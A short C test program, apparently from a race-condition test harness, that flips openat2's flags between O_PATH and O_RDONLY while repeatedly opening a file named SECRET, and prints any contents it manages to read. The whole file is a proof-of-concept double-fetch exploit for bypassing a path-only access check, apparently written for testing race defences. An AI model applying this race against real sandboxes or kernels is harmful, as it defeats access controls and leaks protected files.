/* openat2's flags flip between O_PATH and O_RDONLY without a pause: whoever reads them twice sees both. */
#include "../race.h"
int main(void)
{
	static struct open_how how;
	const uint64_t good = O_PATH, bad = O_RDONLY;
	char bytes[256];
	struct race *r = start_flip(&how.flags, sizeof how.flags, &good, &bad);
	for (int i = 0; flips_on(r, i); i++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, SECRET, &how, sizeof how);
		ssize_t size = fd < 0 ? 0 : read(fd, bytes, sizeof bytes);
		if (fd >= 0)
			close(fd);
		if (size > 5) {
			fprintf(stderr, "try %d\n", i);
			return r->over = 1, write(1, bytes, (size_t)size) < 0;
		}
	}
	return r->over = 1;
}
